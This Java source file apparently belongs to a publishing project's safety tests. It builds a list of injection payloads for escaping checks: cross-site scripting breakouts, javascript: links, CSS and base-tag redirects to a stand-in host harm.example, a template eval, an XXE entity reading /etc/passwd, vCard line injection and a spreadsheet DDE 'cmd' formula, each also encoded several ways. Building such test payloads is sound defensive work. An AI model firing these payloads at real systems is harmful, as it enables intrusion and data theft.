package communique.safety;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Words that would do something if they were taken for more than words: ways out of each context
 * that a publication writes them into, each in several disguises.
 */
final class Payloads {

  /** What would run; nothing else in a page has that name. */
  static final String RAN = "communiqueRan";

  private static final String RUN = "window." + RAN + "=1";

  /** By the context that they break out of. */
  private static final Map<String, String> CONTEXTS =
      new TreeMap<>(
          Map.ofEntries(
              Map.entry("text", "<script>" + RUN + "</script>"),
              Map.entry("picture", "<img src=x onerror=" + RUN + ">"),
              Map.entry("drawing", "<svg onload=" + RUN + "><animate onbegin=" + RUN + ">"),
              Map.entry("double quotes", "x\" autofocus onfocus=\"" + RUN),
              Map.entry("single quotes", "x' onmouseover='" + RUN),
              Map.entry("tag", "\"><details open ontoggle=" + RUN + ">"),
              Map.entry("title", "</title><script>" + RUN + "</script>"),
              Map.entry("data", "</script><script>" + RUN + "</script>"),
              Map.entry("script's comment", "<!--<script>" + RUN + "</script>-->"),
              Map.entry("string", "\");" + RUN + ";//\\"),
              Map.entry("character data", "]]><script>" + RUN + "</script>"),
              Map.entry("style", "</style><style>@import 'https://harm.example/" + RAN + "'"),
              Map.entry("address", "javascript:" + RUN),
              Map.entry("link", "[x](javascript:" + RUN + ")"),
              Map.entry("frame", "<iframe srcdoc=\"<script>parent." + RAN + "=1</script>\">"),
              Map.entry("base", "<base href=//harm.example/><form action=//harm.example/>"),
              Map.entry("template", "${\"x\"?eval}<#assign x=1>${" + RAN + "}"),
              Map.entry("entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;"),
              Map.entry("lines", "x\r\nEND:VCARD\r\nATTACH:javascript:" + RUN + "\r\n"),
              Map.entry("formula", "=HYPERLINK(\"https://harm.example\";\"" + RAN + "\")"),
              Map.entry("command", "@SUM(1+1)*cmd|' /C " + RAN + "'!A0")));

  /** By the one who might take the disguise off. */
  private static final Map<String, UnaryOperator<String>> DISGUISES =
      new TreeMap<>(
          Map.of(
              "plain", words -> words,
              "capitals", words -> words.toUpperCase(Locale.ROOT),
              "numbers", words -> each(words, "&#%d;"),
              "open numbers", words -> each(words, "&#x%x"),
              "percent", words -> URLEncoder.encode(words, StandardCharsets.UTF_8),
              "escapes", words -> each(words, "\\u%04x"),
              "names", Payloads::named,
              "wide", Payloads::wide,
              "broken", words -> words.replaceAll("(?<=[a-z])(?=[a-z])", "\u00AD"),
              "signed", words -> "-+" + words.replace("<", "+ADw-").replace(">", "+AD4-")));

  private Payloads() {}

  /** All of them. */
  static List<String> all() {
    return CONTEXTS.values().stream().flatMap(Payloads::disguised).distinct().toList();
  }

  private static Stream<String> disguised(String words) {
    return DISGUISES.values().stream().map(disguise -> disguise.apply(words));
  }

  /** Each character that has a meaning in markup, written otherwise. */
  private static String each(String words, String format) {
    return words
        .codePoints()
        .mapToObj(c -> "<>\"'&:=(".indexOf(c) < 0 ? Character.toString(c) : format.formatted(c))
        .collect(Collectors.joining());
  }

  private static String named(String words) {
    return words
        .replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace("\"", "&quot;")
        .replace(":", "&colon;");
  }

  private static String wide(String words) {
    return words
        .codePoints()
        .map(c -> "<>\"'=+-@".indexOf(c) < 0 ? c : c + 0xFEE0)
        .mapToObj(Character::toString)
        .collect(Collectors.joining());
  }
}
